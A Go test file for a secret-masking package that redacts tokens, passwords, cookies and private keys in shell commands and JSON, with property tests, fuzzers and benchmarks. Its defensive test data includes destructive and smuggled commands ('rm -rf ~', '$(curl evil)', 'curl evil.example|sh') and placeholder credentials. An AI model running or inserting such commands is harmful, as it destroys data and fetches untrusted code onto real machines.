package mask_test

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/callgate/callgate/host/internal/store/mask"
)

var (
	masker  = mask.New([]byte("a key of this test"))
	hidden  = regexp.MustCompile(`\[masked:[0-9a-f]{8}\]`)
	meta    = "\"'`$;|&<>(){}\\ \t\r\n"
	akia    = "AKIA" + "IOSFODNN7EXAMPLE"
	ghp     = "ghp_" + strings.Repeat("aB3", 12)
	discord = "MTIzNDU2Nzg5MDEyMzQ1Njc4" + ".GabcDE." + strings.Repeat("x", 38)
)

// show replaces each digest by a star.
func show(s string) string { return hidden.ReplaceAllString(s, "*") }

func TestText(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, want string }{
		"assignment":                   {"TOKEN=hunter2 npm publish", "TOKEN=* npm publish"},
		"exported":                     {"export GITHUB_TOKEN=abc; make", "export GITHUB_TOKEN=*; make"},
		"single quotes":                {"API_KEY='abc' x", "API_KEY='*' x"},
		"double quotes":                {`DB_PASSWORD="abc" x`, `DB_PASSWORD="*" x`},
		"quoted with blanks":           {`PASSPHRASE="correct horse" gpg`, `PASSPHRASE="* *" gpg`},
		"concatenated":                 {`TOKEN=abc"def"'ghi' x`, `TOKEN=*"*"'*' x`},
		"whole word quoted":            {`env "TOKEN=abc" x`, `env "TOKEN=*" x`},
		"command substitution":         {"TOKEN=$(rm -rf ~)", "TOKEN=$(rm -rf ~)"},
		"back quotes":                  {"TOKEN=`rm -rf ~`", "TOKEN=`rm -rf ~`"},
		"variable":                     {"TOKEN=$OTHER x", "TOKEN=$OTHER x"},
		"part variable":                {"TOKEN=abc$OTHER x", "TOKEN=abc$OTHER x"},
		"part substitution":            {"TOKEN=abc$(curl evil)", "TOKEN=abc$(curl evil)"},
		"second command":               {"TOKEN=abc;rm -rf ~", "TOKEN=*;rm -rf ~"},
		"empty, then command":          {"TOKEN= rm -rf ~", "TOKEN= rm -rf ~"},
		"empty line, then command":     {"TOKEN=\nrm -rf ~", "TOKEN=\nrm -rf ~"},
		"quotes that close":            {`x="TOKEN=" rm -rf "y"`, `x="TOKEN=" rm -rf "y"`},
		"after a comment's quote":      {"# \"\nx=\"TOKEN=\" rm -rf \"y\"", "# \"\nx=\"TOKEN=\" rm -rf \"y\""},
		"default is a command":         {"${TOKEN:-rm} -rf ~", "${TOKEN:-rm} -rf ~"},
		"assigned default":             {": ${TOKEN:=rm}", ": ${TOKEN:=rm}"},
		"run later":                    {"TOKEN=rm; $TOKEN -rf ~", "TOKEN=rm; $TOKEN -rf ~"},
		"run later by eval":            {`TOKEN=rm; eval "$TOKEN -rf ~"`, `TOKEN=rm; eval "$TOKEN -rf ~"`},
		"run after an assignment":      {"TOKEN=rm; A=1 ${TOKEN} -rf ~", "TOKEN=rm; A=1 ${TOKEN} -rf ~"},
		"alias":                        {"alias token=rm; token -rf ~", "alias token=rm; token -rf ~"},
		"used as an argument":          {"TOKEN=abc curl -d $TOKEN h", "TOKEN=* curl -d $TOKEN h"},
		"colon, then command":          {"x=token: rm -rf ~", "x=token: rm -rf ~"},
		"continued line":               {"TOKEN=abc\\\nrm", "TOKEN=abc\\\nrm"},
		"process substitution":         {"TOKEN=<(rm -rf ~)", "TOKEN=<(rm -rf ~)"},
		"working directory":            {"PWD=/home/ann ls", "PWD=/home/ann ls"},
		"harmless names":               {"AUTHOR=ann KEYBOARD=de MONKEY=1", "AUTHOR=ann KEYBOARD=de MONKEY=1"},
		"header":                       {`curl -H "Authorization: Bearer abc.DEF-1" h`, `curl -H "Authorization: Bearer *" h`},
		"header with a variable":       {`curl -H "Authorization: Bearer $T" h`, `curl -H "Authorization: Bearer $T" h`},
		"own header":                   {`curl -H 'X-Api-Key: abc12345' h`, `curl -H 'X-Api-Key: *' h`},
		"cookie":                       {`curl -H 'Cookie: a=1; sid=xyz' h`, `curl -H 'Cookie: a=*; sid=*' h`},
		"basic":                        {"Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic *"},
		"flag":                         {"x --password hunter2 --token=abc", "x --password * --token=*"},
		"flag before a command":        {"x --token rm -rf ~", "x --token rm -rf ~"},
		"no password":                  {"psql --no-password template1", "psql --no-password template1"},
		"curl user":                    {"curl -u ann:hunter2 h", "curl -u ann:* h"},
		"userinfo":                     {"git clone https://ann:hunter2@example.org/x", "git clone https://ann:*@example.org/x"},
		"userinfo token":               {"git clone https://abcdef@example.org/x", "git clone https://*@example.org/x"},
		"ssh user":                     {"git clone ssh://git@example.org/x", "git clone ssh://git@example.org/x"},
		"query":                        {"curl 'https://h/?token=abc&x=1'", "curl 'https://h/?token=*&x=1'"},
		"aws":                          {"aws configure set k " + akia, "aws configure set k *"},
		"github":                       {"echo " + ghp + " | cat", "echo * | cat"},
		"discord":                      {"echo '" + discord + "'", "echo '*'"},
		"discord webhook":              {"curl https://discord.com/api/webhooks/123456789012/abcdefghijklm", "curl https://discord.com/api/webhooks/*"},
		"slack":                        {"xoxb-12345678-abcdef", "*"},
		"nested json":                  {`curl -d '{"password":"abc","n":1}' h`, `curl -d '{"password":"*","n":1}' h`},
		"nested escaped json":          {`curl -d "{\"password\":\"abc\"}" h`, `curl -d "{\"password\":\"*\"}" h`},
		"env file":                     {"A=1\nSECRET_KEY=abc\nB=2\n", "A=1\nSECRET_KEY=*\nB=2\n"},
		"yaml":                         {"db:\n  password: hunter2\n", "db:\n  password: *\n"},
		"private key":                  {"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabcdefgh12345678XY==\n-----END RSA PRIVATE KEY-----\n", "-----BEGIN RSA PRIVATE KEY-----\n*\n*\n-----END RSA PRIVATE KEY-----\n"},
		"private key in JSON":          {`{"x":"-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\r\nMIIEowIBAAKCAQEB\n-----END PRIVATE KEY-----"}`, `{"x":"-----BEGIN PRIVATE KEY-----\n*\r\n*\n-----END PRIVATE KEY-----"}`},
		"private key in JSON in JSON":  {`-----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEA\\n-----END`, `-----BEGIN PRIVATE KEY-----\\n*\\n-----END`},
		"code in a private key":        {`-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\$(rm -rf ~)`, `-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\$(rm -rf ~)`},
		"commands in a private key":    {"-----BEGIN PRIVATE KEY-----\nrm -rf ~\ncurl evil.example|sh\n", "-----BEGIN PRIVATE KEY-----\nrm -rf ~\ncurl evil.example|sh\n"},
		"secrets around a private key": {"-----BEGIN PRIVATE KEY-----\n--token=abc\nMIIEowIBAAKCAQEA\n", "-----BEGIN PRIVATE KEY-----\n--token=*\n*\n"},
		"an address where a user is":   {"git push -u https://example.org/x github-app-token", "git push -u https://example.org/x github-app-token"},
		"its password":                 {"git push -u https://ann:hunter2@example.org/x a", "git push -u https://ann:*@example.org/x a"},
		"a user called like a scheme":  {"curl -u https:hunter2 h", "curl -u https:* h"},
		"counted tokens":               {"max_output_tokens: 12000 tokens=abc api_tokens=abc", "max_output_tokens: 12000 tokens=* api_tokens=*"},
		"a token where a user stands":  {"-u --token=abc", "-u --token=*"},
		"certificate":                  {"-----BEGIN CERTIFICATE-----\nMIIEowIBAAKCAQEA\n-----END CERTIFICATE-----\n", "-----BEGIN CERTIFICATE-----\nMIIEowIBAAKCAQEA\n-----END CERTIFICATE-----\n"},
		"token in JSON in a text":      {`tool:x:{"v":"echo \"` + ghp + `\" ` + ghp + `\n"}`, `tool:x:{"v":"echo \"*\" *\n"}`},
		"token before code":            {"echo " + ghp + `\$(rm -rf ~)`, "echo " + ghp + `\$(rm -rf ~)`},
		"action string":                {"tool:bash:TOKEN=abc npm publish", "tool:bash:TOKEN=* npm publish"},
		"nothing":                      {"npm run build", "npm run build"},
		"names of secrets in a flag":   {"--no-token=abc", "--no-token=*"},
		"shell array of arithmetic":    {"TOKEN='a[$(x)]'", "TOKEN='a[$(x)]'"},
		"variable named like a token":  {"$" + akia, "$" + akia},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := show(masker.Text(c.in)); got != c.want {
				t.Errorf("Text(%q): got %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestJSON(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, want string }{
		"command":         {`{"command":"TOKEN=abc npm <x"}`, `{"command":"TOKEN=* npm <x"}`},
		"named field":     {`{"user":"ann","password":"correct horse"}`, `{"user":"ann","password":"* *"}`},
		"authorization":   {`{"headers":{"Authorization":"Bearer abc"}}`, `{"headers":{"Authorization":"Bearer *"}}`},
		"list":            {`{"tokens":["a","b"],"x":["c"]}`, `{"tokens":["*","*"],"x":["c"]}`},
		"number":          {`{"pin":1234, "n": 5}`, `{"pin":"*", "n": 5}`},
		"code in a field": {`{"token":"$(rm -rf ~)"}`, `{"token":"$(rm -rf ~)"}`},
		"object":          {`{"auth":{"user":"ann","kind":"x"}}`, `{"auth":{"user":"ann","kind":"x"}}`},
		"layout stays":    {"{ \"a\" : 1e2 ,\n\"secret\" : \"x\" }", "{ \"a\" : 1e2 ,\n\"secret\" : \"*\" }"},
		"key of a map":    {`{"` + akia + `":1}`, `{"*":1}`},
		"not json":        {`TOKEN=abc`, `TOKEN=*`},
		"scalar":          {` "TOKEN=abc" `, ` "TOKEN=*" `},
		"empty":           {`{"password":""}`, `{"password":""}`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := show(string(masker.JSON([]byte(c.in)))); got != c.want {
				t.Errorf("JSON(%q): got %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestText_equalSecretsLookEqualUnderOneKey(t *testing.T) {
	t.Parallel()
	a, b := masker.Text("TOKEN=abc x"), masker.Text("y TOKEN=abc")
	if hidden.FindString(a) != hidden.FindString(b) {
		t.Errorf("one secret, two digests: got %q and %q", a, b)
	}
	if other := mask.New([]byte("other")).Text("TOKEN=abc x"); other == a {
		t.Errorf("two keys, one digest: got %q twice", a)
	}
}

// A text making the masker look far ahead again and again would stall every decision: each of
// these takes milliseconds, or minutes if time were quadratic.
func TestText_hostileLengths(t *testing.T) {
	t.Parallel()
	for _, piece := range []string{
		"token=", "cookie:", "a://", "eyJ.", "M-", "-----BEGIN PRIVATE KEY-----", "TOKEN='", "TOKEN=\"a ", "$", "$a ", "token: ", "-u a:",
		"Bearer ", "/api/webhooks/", "[masked:", "\\\"", "alias token=a", "token=$token=",
	} {
		t.Run(piece, func(t *testing.T) {
			t.Parallel()
			checkText(t, strings.Repeat(piece, 1<<18/len(piece))+"$")
		})
	}
}

// metaOf are the characters masking must not change, in order.
func metaOf(s string) string {
	s = hidden.ReplaceAllString(s, "")
	return strings.Map(func(r rune) rune {
		if strings.ContainsRune(meta, r) {
			return r
		}
		return -1
	}, s)
}

// checkText proves the package's promises on one text.
func checkText(t interface {
	Helper()
	Fatalf(string, ...any)
}, in string,
) {
	t.Helper()
	out := masker.Text(in)
	if got, want := metaOf(out), metaOf(in); got != want {
		t.Fatalf("Text(%q) = %q: got the shell characters %q, want %q", in, out, got, want)
	}
	// The neighbours of a hidden secret may read differently, so more is hidden the second
	// time; no code is.
	again := masker.Text(out)
	if got, want := metaOf(again), metaOf(in); got != want {
		t.Fatalf("Text(%q) twice: got %q after %q", in, again, out)
	}
}

// T14_: masking never hides code, in any text.
func TestT14_maskingKeepsShellCharacters(t *testing.T) {
	t.Parallel()
	piece := rapid.SampledFrom([]string{
		"TOKEN", "=", ":", " ", "\n", "$", "(", ")", "`", ";", "|", "&", "<", ">", "'", "\"", "\\", "{", "}", "rm -rf ~", "abc", "hunter2",
		"password", "--password", "--token=", "-u", "https://", "@", "Bearer ", "Authorization: ", "Cookie: ", akia, ghp, "-----BEGIN ",
		"PRIVATE KEY-----", "eval ", "alias ", "${", "[masked:01234567]", "\x00", "\xff", "é",
	})
	rapid.Check(t, func(rt *rapid.T) {
		checkText(rt, strings.Join(rapid.SliceOfN(piece, 0, 24).Draw(rt, "pieces"), ""))
	})
}

func FuzzText(f *testing.F) {
	for _, s := range []string{"TOKEN=$(rm -rf ~)", "a TOKEN='x y' --password z12345", "-----BEGIN PRIVATE KEY-----\nA", "https://a:b@c", ghp, "Cookie: a=b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkText(t, s) })
}

func FuzzJSON(f *testing.F) {
	for _, s := range []string{`{"token":"a b","n":[1,{"pin":-2e3}]}`, `[]`, `"\ud800"`, ` {"a":"TOKEN=\"x\""} `, `{`, ``} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		out := masker.JSON(raw)
		if json.Valid(raw) != json.Valid(out) && json.Valid(raw) {
			t.Fatalf("JSON(%q) = %q: no longer valid", raw, out)
		}
	})
}

func BenchmarkText(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		masker.Text("npm run build --workspace packages/core && git status")
	}
}

func BenchmarkJSON(b *testing.B) {
	in := []byte(`{"command":"npm run build --workspace packages/core && git status","description":"Build the core package"}`)
	b.ReportAllocs()
	for b.Loop() {
		masker.JSON(in)
	}
}

// A command's hidden parts are hidden in texts about it, alone or within a word; short pieces,
// as in any text, are not.
func TestKnown(t *testing.T) {
	t.Parallel()
	secrets := mask.Secrets("curl https://bob:hunter2hunter2@example.com/x --password abcdef")
	for in, want := range map[string]string{
		"reads bob:hunter2hunter2@example.com": "reads bob:*@example.com",
		"/hunter2hunter2/x and hunter2hunter2": "/*/x and *",
		"abcdef":                               "abcdef",
		"TOKEN=x":                              "TOKEN=*",
	} {
		if got := show(masker.Known(in, secrets)); got != want {
			t.Errorf("Known(%q): got %q, want %q", in, got, want)
		}
	}
}
